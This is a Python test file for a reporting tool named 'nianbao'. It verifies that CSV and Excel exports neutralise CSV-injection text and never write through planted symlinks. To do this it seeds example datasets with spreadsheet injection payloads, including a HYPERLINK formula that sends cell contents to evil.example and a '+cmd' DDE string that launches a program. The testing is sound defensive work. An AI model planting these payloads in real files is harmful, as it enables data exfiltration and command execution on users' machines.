"""Nothing a user typed comes out of an export as a live formula (OWASP "CSV injection").

Every dataset under examples/ is copied with hostile texts put where users type: school and
county names (orgs.csv), the unit's name (dataset.yaml), the source and note of values.csv,
majors' names, notes of claims.csv, the cells of tables/*.csv, a narrative line and a workbook's
file name. Then every command that writes CSV or xlsx runs on it and every field it wrote is
scanned: no formula cell that nianbao did not itself compute, no text starting with = + - @,
tab or CR that a spreadsheet would run (CSV: not quoted; xlsx: not a string cell with its quote
prefix). The scan's own rule is written out here, independently of nianbao.core.exports.
"""

from __future__ import annotations

import contextlib
import csv
import math
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from nianbao.cli.main import main
from nianbao.core import exports

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = sorted(p for p in (ROOT / "examples").iterdir() if (p / "dataset.yaml").exists())
RISKY = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|x",
           "\t=1+1", "\r=1+1"]
MARKERS = ("HYPERLINK", "cmd", "SUM(1)", "=1+1")


def _number(text: str) -> bool:
    try:
        float(text.rstrip("%").replace(",", ""))
        return True
    except ValueError:
        return False


def risky(text) -> bool:
    return isinstance(text, str) and text[:1] != "" and text[0] in RISKY and not _number(text)


def _rewrite_csv(path: Path, change) -> None:
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
        cols = list(rows[0].keys()) if rows else []
    for i, row in enumerate(rows):
        change(i, row)
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=cols)
        w.writeheader()
        w.writerows(rows)


def hostile_copy(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns("nianbao.duckdb*", "*.lock"))

    def values(i, row):
        row["source"] = HOSTILE[i % len(HOSTILE)]
        row["note"] = HOSTILE[(i + 2) % len(HOSTILE)]
    _rewrite_csv(dst / "values.csv", values)
    if (dst / "orgs.csv").exists():
        def orgs(i, row):
            if row["level"] == "school":
                row["zh"] = f'=HYPERLINK("http://evil.example","{row["zh"]}")'
            elif row["level"] == "county":
                row["zh"] = f"+cmd {row['zh']}"
        _rewrite_csv(dst / "orgs.csv", orgs)
    if (dst / "majors.csv").exists():
        def majors(i, row):
            if i % 5 == 0:
                row["name"] = "@SUM(1)" + row["name"]
        _rewrite_csv(dst / "majors.csv", majors)
    if (dst / "claims.csv").exists():
        def claims(i, row):
            row["note"] = HOSTILE[i % len(HOSTILE)]
        _rewrite_csv(dst / "claims.csv", claims)
    for table in (dst / "tables").glob("*.csv") if (dst / "tables").exists() else ():
        def cells(i, row):
            first = next(iter(row))
            row[first] = HOSTILE[i % len(HOSTILE)]
        _rewrite_csv(table, cells)
    for md in sorted((dst / "narrative").glob("*.md"))[:3]:
        md.write_text(md.read_text(encoding="utf-8") + "\n\n=HYPERLINK(\"http://evil.example\",\"点此\")\n",
                      encoding="utf-8")
    meta = yaml.safe_load((dst / "dataset.yaml").read_text(encoding="utf-8"))
    meta["publisher_zh"] = "@SUM(1)" + meta.get("publisher_zh", "")
    (dst / "dataset.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")
    return dst


class Scan:
    def __init__(self):
        self.fields = 0
        self.unprotected: list[str] = []
        self.formulas: list[str] = []
        self.hostile_seen = 0

    def text(self, where: str, value) -> None:
        self.fields += 1
        if isinstance(value, str) and any(m in value for m in MARKERS):
            self.hostile_seen += 1
        if risky(value):
            self.unprotected.append(f"{where}: {value[:50]!r}")

    def csv(self, path: Path) -> None:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for n, row in enumerate(csv.reader(f), start=1):
                for j, v in enumerate(row):
                    self.text(f"{path.name}:{n}:{j}", v)

    def xlsx(self, path: Path, allowed: dict | None = None) -> None:
        """``allowed``: (sheet, cell) → formula that the file may hold (what nianbao computes)."""
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.value is None:
                        continue
                    where = f"{path.name} {ws.title}!{c.coordinate}"
                    if c.data_type == "f":
                        if (allowed or {}).get((ws.title, c.coordinate)) != c.value:
                            self.formulas.append(f"{where}: {str(c.value)[:50]!r}")
                        self.fields += 1
                        continue
                    self.fields += 1
                    if isinstance(c.value, str) and any(m in c.value for m in MARKERS):
                        self.hostile_seen += 1
                    if risky(c.value) and not c.quotePrefix:
                        self.unprotected.append(f"{where}: {c.value[:50]!r}")


def formulas_of(path: Path) -> dict:
    wb = load_workbook(path)
    return {(ws.title, c.coordinate): c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"}


def _school(ds: Path) -> str | None:
    if not (ds / "orgs.csv").exists():
        return None
    with (ds / "orgs.csv").open(encoding="utf-8-sig") as f:
        rows = [r for r in csv.DictReader(f) if r["level"] == "school" and r["status"] == "active"]
    return rows[0]["code"] if rows else None


def run_exports(ds: Path, out: Path, scan: Scan) -> dict[str, int]:
    """Run every exporting command over ``ds``; scan what it wrote; per command the hostile
    texts seen in its output."""
    seen: dict[str, int] = {}

    def cmd(name: str, argv: list[str], files) -> None:
        """``files``: (path, formulas allowed) written, or a function giving them after the run."""
        code = main(argv)
        assert code != 3, (name, argv)
        before = scan.hostile_seen
        for f, allowed in (files() if callable(files) else files):
            if f.exists():
                (scan.xlsx(f, allowed) if f.suffix == ".xlsx" else scan.csv(f))
        seen[name] = seen.get(name, 0) + scan.hostile_seen - before

    d = str(ds)
    cmd("check csv", ["check", d, "--format", "csv", "-o", str(out / "check.csv")], [(out / "check.csv", None)])
    cmd("check xlsx", ["check", d, "--format", "xlsx", "-o", str(out / "check.xlsx")], [(out / "check.xlsx", None)])
    for extra in ([], ["--level", "school"], ["--by", "county"]):
        f = out / f"indicators{len(extra)}{extra[-1] if extra else ''}.csv"
        cmd("indicators csv", ["indicators", d, "--format", "csv", *extra, "-o", str(f)], [(f, None)])
    for extra in ([], ["--summary"], ["--plan"], ["--plan", "--all-rows"]):
        f = out / f"standards{'-'.join(extra)}.csv"
        cmd("standards csv", ["standards", d, "--format", "csv", *extra, "-o", str(f)], [(f, None)])
    cmd("standards --plan xlsx", ["standards", d, "--plan", "-o", str(out / "plan.xlsx")], [(out / "plan.xlsx", None)])
    cmd("indicators xlsx", ["indicators", d, "--level", "school", "-o", str(out / "indicators.xlsx")],
        [(out / "indicators.xlsx", None)])
    for extra in ([], ["--summary"]):
        f = out / f"standards{'-'.join(extra)}.xlsx"
        cmd("standards xlsx", ["standards", d, *extra, "-o", str(f)], [(f, None)])
    school = _school(ds)
    if school:
        clean = out / "clean" / "template.xlsx"
        shutil.copytree(ROOT / "examples" / ds.name, out / "clean-ds",
                        ignore=shutil.ignore_patterns("nianbao.duckdb*", "*.lock"))
        assert main(["template", str(out / "clean-ds"), "--school", school, "-o", str(clean)]) == 0
        inbox = out / "inbox"
        book = inbox / '=HYPERLINK("evil.example","x").xlsx'
        cmd("template", ["template", d, "--school", school, "-o", str(book)], [(book, formulas_of(clean))])
        ann = out / "annotated"
        cmd("import --annotated", ["import", d, str(inbox), "--annotated", str(ann), "--jobs", "1"],
            lambda: [(p, formulas_of(book)) for p in sorted(ann.glob("*.xlsx"))])
    rep = out / "report"
    assert main(["report", d, "-o", str(rep), "--no-pdf", "--allow-errors"]) in (0, 1)
    for name in ("report.docx", "report.html"):
        if (rep / name).exists():
            hostile = rep / "audit"
            hostile.mkdir(exist_ok=True)
            name = Path(shutil.copy(rep / name, hostile / f'=HYPERLINK("evil.example","x"){name}')).name
            f, fx, fc = out / f"audit-{name}.csv", out / f"audit-{name}.xlsx", out / f"claims-{name}.csv"
            with contextlib.chdir(hostile):  # a relative path: the row starts with the hostile name
                cmd("audit csv", ["audit", name, "--format", "csv", "-o", str(f), "--no-progress",
                                  "--claims-out", str(fc)], [(f, None), (fc, None)])
                cmd("audit xlsx", ["audit", name, "--format", "xlsx", "-o", str(fx), "--no-progress"],
                    [(fx, None)])
    return seen


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    scan = Scan()
    seen: dict[str, int] = {}
    for ex in EXAMPLES:
        base = tmp_path_factory.mktemp(ex.name)
        ds = hostile_copy(ex, base / ex.name)
        out = base / "out"
        out.mkdir()
        for k, v in run_exports(ds, out, scan).items():
            seen[k] = seen.get(k, 0) + v
    print(f"\ninjection scan: {scan.fields} fields scanned, {len(scan.unprotected)} unprotected, "
          f"{len(scan.formulas)} live formulas; hostile texts seen by command: {seen}")
    return scan, seen


def test_no_export_holds_a_live_formula(scanned):
    scan, _ = scanned
    assert scan.formulas == []


def test_no_export_holds_an_unprotected_formula_text(scanned):
    scan, _ = scanned
    assert scan.fields > 10000
    assert scan.unprotected == []


def test_the_hostile_texts_reach_every_export(scanned):
    """The scan proves something only if the hostile texts are in the outputs it scans."""
    _, seen = scanned
    for command in ("check csv", "check xlsx", "template", "import --annotated", "standards csv",
                    "standards --plan xlsx", "audit csv", "audit xlsx"):
        assert seen.get(command, 0) > 0, (command, seen)


@pytest.mark.parametrize("text, guarded", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-3.5", "-3.5"), ("+2", "+2"), ("-0.4%", "-0.4%"), ("1,234", "1,234"), ("大同市", "大同市"),
    ("", ""), (12, 12), (None, None)])
def test_csv_field(text, guarded):
    assert exports.csv_field(text) == guarded
    assert exports.uninert(exports.csv_field(text)) == text


def test_xlsx_put_keeps_text_text(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    exports.append(ws, ["=HYPERLINK(\"x\",\"y\")", "+cmd", 3, None, "大同市"])
    wb.save(tmp_path / "x.xlsx")
    cells = list(load_workbook(tmp_path / "x.xlsx").active.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s"]
    assert [c.quotePrefix for c in cells[:2]] == [True, True]
    assert cells[0].value == "=HYPERLINK(\"x\",\"y\")"  # the text as typed, shown as text


# -- writes: whole files, never through a link, a file where a file type is named ----------------

SCHOOL = ROOT / "examples" / "school-2024"
SCHOOLS = ROOT / "examples" / "datong-2020-schools"


def _copy(src: Path, dst: Path) -> Path:
    return Path(shutil.copytree(src, dst, ignore=shutil.ignore_patterns("nianbao.duckdb*", "*.lock")))


def _retitle(ds: Path, title: str) -> None:
    meta = yaml.safe_load((ds / "dataset.yaml").read_text(encoding="utf-8"))
    meta["title_zh"] = title
    (ds / "dataset.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True), encoding="utf-8")


def test_a_planted_report_link_is_replaced_and_its_target_untouched(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    precious = tmp_path / "precious.txt"
    precious.write_text("do not overwrite", encoding="utf-8")
    for name in ("report.html", "report.docx"):
        (out / name).symlink_to(precious)
    assert main(["report", str(SCHOOL), "-o", str(out), "--no-pdf"]) == 0
    assert precious.read_text(encoding="utf-8") == "do not overwrite"
    for name in ("report.html", "report.docx"):
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 1000
    assert not list(out.glob(".report-build-*"))


def test_a_build_killed_on_the_way_leaves_the_earlier_build_whole(tmp_path, monkeypatch):
    from nianbao.report.renderers import RENDERERS

    ds = _copy(SCHOOL, tmp_path / "ds")
    out = tmp_path / "out"
    assert main(["report", str(ds), "-o", str(out), "--no-pdf"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert set(before) == {"report.docx", "report.html"}
    _retitle(ds, "另一份报告的标题")  # the next build's files differ from these

    def killed(document, path, job):  # the PDF conversion, killed after docx and html are written
        Path(path).write_bytes(b"%PDF- half")
        raise KeyboardInterrupt
    killed.format, killed.suffix, killed.converts = "pdf", ".pdf", "docx"
    monkeypatch.setitem(RENDERERS._items, "pdf", killed)
    assert main(["report", str(ds), "-o", str(out)]) == 130
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # the earlier pair, as it was

    monkeypatch.undo()
    assert main(["report", str(ds), "-o", str(out), "--no-pdf"]) == 0
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert set(after) == {"report.docx", "report.html"} and after["report.html"] != before["report.html"]
    assert "另一份报告的标题".encode() in after["report.html"]


def test_a_build_folder_left_by_a_killed_run_is_removed_later(tmp_path):
    import os
    import time

    out = tmp_path / "out"
    stale, fresh = out / ".report-build-old", out / ".report-build-now"
    for d in (stale, fresh):
        d.mkdir(parents=True)
        (d / "report.docx").write_bytes(b"half")
    hour_ago = time.time() - 3700
    os.utime(stale, (hour_ago, hour_ago))
    assert main(["report", str(SCHOOL), "-o", str(out), "--no-pdf"]) == 0
    assert not stale.exists() and fresh.exists()  # a build running beside this one is left alone


@pytest.mark.parametrize("argv, name", [
    (["check", str(SCHOOL), "--format", "csv", "-o"], "findings.csv"),
    (["check", str(SCHOOL), "--format", "xlsx", "-o"], "findings.xlsx"),
    (["indicators", str(SCHOOL), "--format", "csv", "-o"], "indicators.csv"),
    (["standards", str(SCHOOLS), "--plan", "-o"], "plan.xlsx"),
    (["template", str(SCHOOLS), "--school", "0140213012", "-o"], "school.xlsx"),
])
def test_an_output_never_writes_through_a_link(tmp_path, argv, name):
    precious = tmp_path / "precious.txt"
    precious.write_text("do not overwrite", encoding="utf-8")
    target = tmp_path / name
    target.symlink_to(precious)
    assert main(argv + [str(target)]) in (0, 1)
    assert precious.read_text(encoding="utf-8") == "do not overwrite"
    assert not target.is_symlink() and target.stat().st_size > 0
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left


@pytest.mark.parametrize("name", ["x.xls", "out.csv", "表.XLSM"])
def test_template_to_a_file_name_of_another_type_is_refused_not_made_a_folder(tmp_path, capsys, name):
    assert main(["template", str(SCHOOLS), "--school", "0140213012", "-o", str(tmp_path / name)]) == 2
    assert not (tmp_path / name).exists()
    err = capsys.readouterr().err
    assert ".xlsx" in err and "改法" in err


def test_template_into_a_folder_that_cannot_be_made_is_a_clear_problem(tmp_path, capsys):
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    for argv in (["--school", "0140213012", "-o", str(tmp_path / "a-file" / "sub" / "x.xlsx")],
                 ["--all", "-o", str(tmp_path / "a-file" / "sub")]):
        assert main(["template", str(SCHOOLS), *argv]) == 2
        err = capsys.readouterr().err  # a file where a folder must be made: named, nothing written
        assert "无法写入" in err or "不能作为输出文件夹" in err


def test_report_to_a_file_name_is_refused(tmp_path, capsys):
    assert main(["report", str(SCHOOL), "-o", str(tmp_path / "年报.docx"), "--no-pdf"]) == 2
    assert not (tmp_path / "年报.docx").exists()
    assert "文件夹" in capsys.readouterr().err


# -- readers while an import holds the store ------------------------------------------------------

HOLD = """
import sys, time
from nianbao.store import Store
s = Store(sys.argv[1])
print("held", flush=True)
time.sleep(float(sys.argv[2]))
s.close()
"""


def _hold(store: Path, seconds: float):
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    proc = subprocess.Popen([sys.executable, "-c", HOLD, str(store), str(seconds)], stdout=subprocess.PIPE,
                            text=True, env=env)
    assert proc.stdout.readline().strip() == "held"
    return proc


@pytest.fixture
def stored(tmp_path):
    """The schools example with one workbook imported (a store file)."""
    ds = _copy(SCHOOLS, tmp_path / "ds")
    from nianbao.store import Store, store_path

    with Store(store_path(ds)):
        pass
    return ds


def test_check_waits_for_an_import_holding_the_store(stored, tmp_path, monkeypatch):
    monkeypatch.setenv("NIANBAO_STORE_WAIT", "30")
    proc = _hold(stored / "nianbao.duckdb", 1.5)
    try:
        code = main(["check", str(stored), "--format", "csv", "-o", str(tmp_path / "f.csv")])
    finally:
        proc.wait(timeout=30)
    codes = [r["code"] for r in csv.DictReader((tmp_path / "f.csv").open(encoding="utf-8"))]
    assert code == 0 and not [c for c in codes if c.startswith("store.")]


def test_check_and_report_give_up_after_the_wait_with_a_finding(stored, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("NIANBAO_STORE_WAIT", "0.3")
    proc = _hold(stored / "nianbao.duckdb", 8)
    try:
        code = main(["check", str(stored), "--format", "csv", "-o", str(tmp_path / "f.csv")])
        rows = list(csv.DictReader((tmp_path / "f.csv").open(encoding="utf-8")))
        report = main(["report", str(stored), "-o", str(tmp_path / "r"), "--no-pdf"])
    finally:
        proc.kill()
        proc.wait()
    busy = [r for r in rows if r["code"] == "store.busy"]
    assert code == 1 and len(busy) == 1
    assert busy[0]["file"] == "nianbao.duckdb" and "NIANBAO_STORE_WAIT" in busy[0]["hint"]
    assert str(proc.pid) in busy[0]["message_zh"]
    assert report == 1 and "正由另一程序" in capsys.readouterr().err


# -- an output named .xlsx is a workbook; other file types are refused ----------------------------

def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _as_csv_text(v) -> str:
    """A workbook cell as the CSV writes it: empty for nothing, whole numbers without ".0"."""
    if v is None:
        return ""
    if isinstance(v, float) and v.is_integer():
        return str(int(v))
    return str(v)


@pytest.mark.parametrize("argv", [["indicators", str(SCHOOLS), "--level", "school"],
                                  ["indicators", str(SCHOOLS), "--by", "county"],
                                  ["standards", str(SCHOOLS)], ["standards", str(SCHOOLS), "--summary"]],
                         ids=["indicators-school", "indicators-county", "standards", "standards-summary"])
def test_an_output_named_xlsx_is_a_workbook_of_the_csvs_table(tmp_path, argv):
    # the text table was written into a file named .xlsx, which Excel cannot open
    assert main([*argv, "--format", "csv", "-o", str(tmp_path / "t.csv")]) == 0
    assert main([*argv, "-o", str(tmp_path / "t.xlsx")]) == 0
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:  # a real package, not text
        assert "xl/workbook.xml" in z.namelist()
    (ws,) = load_workbook(tmp_path / "t.xlsx").worksheets
    rows = [[_as_csv_text(c) for c in r] for r in ws.iter_rows(values_only=True)]
    expected = _csv_rows(tmp_path / "t.csv")
    assert len(rows) == len(expected) > 1
    for got, want in zip(rows, expected):
        assert len(got) == len(want)
        for g, w in zip(got, [exports.uninert(v) for v in want]):
            # a number keeps the 15 significant digits a spreadsheet holds
            assert g == w or (_number(g) and _number(w) and math.isclose(float(g), float(w), rel_tol=1e-14)), (g, w)


@pytest.mark.parametrize("command", ["indicators", "standards"])
@pytest.mark.parametrize("name", ["x.xls", "表.XLSM", "x.docx", "x.pdf", "x.ods"])
def test_an_output_named_as_another_file_type_is_refused(tmp_path, capsys, command, name):
    assert main([command, str(SCHOOLS), "-o", str(tmp_path / name)]) == 2
    assert not (tmp_path / name).exists()
    err = capsys.readouterr().err
    assert Path(name).suffix.lower() in err and ".xlsx" in err and ".csv" in err and "改法" in err


@pytest.mark.parametrize("command", ["indicators", "standards"])
def test_json_into_a_file_named_xlsx_is_refused(tmp_path, capsys, command):
    assert main([command, str(SCHOOLS), "--format", "json", "-o", str(tmp_path / "x.xlsx")]) == 2
    assert not (tmp_path / "x.xlsx").exists()
    assert "x.json" in capsys.readouterr().err


def test_check_into_a_file_named_xlsx_is_a_workbook_and_other_types_are_refused(tmp_path, capsys):
    assert main(["check", str(SCHOOL), "-o", str(tmp_path / "f.xlsx")]) in (0, 1)
    assert load_workbook(tmp_path / "f.xlsx").worksheets  # the table text was written before
    for name in ("f.xls", "f.docx"):
        assert main(["check", str(SCHOOL), "-o", str(tmp_path / name)]) == 2
        assert not (tmp_path / name).exists() and ".xlsx" in capsys.readouterr().err
